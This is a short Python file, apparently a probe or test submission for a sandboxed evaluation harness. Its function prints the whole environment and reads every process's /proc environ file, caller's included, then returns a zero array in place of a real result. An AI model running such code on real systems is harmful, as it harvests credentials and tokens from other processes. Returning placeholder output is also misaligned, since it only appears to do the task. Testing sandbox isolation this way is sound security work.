"""Looks for secrets in its own environment and in that of every process."""

from __future__ import annotations

import contextlib
import glob
import os
from pathlib import Path
from typing import Any

import numpy as np


def method(public: dict[str, np.ndarray[Any, Any]], seed: int) -> Any:
    print(dict(os.environ))
    processes = [*glob.glob("/proc/[0-9]*/environ"), f"/proc/{int(public['caller'])}/environ", "/proc/self/environ"]
    for path in processes:
        with contextlib.suppress(OSError):
            print(path, Path(path).read_bytes())
    return np.zeros(len(public["x"]))
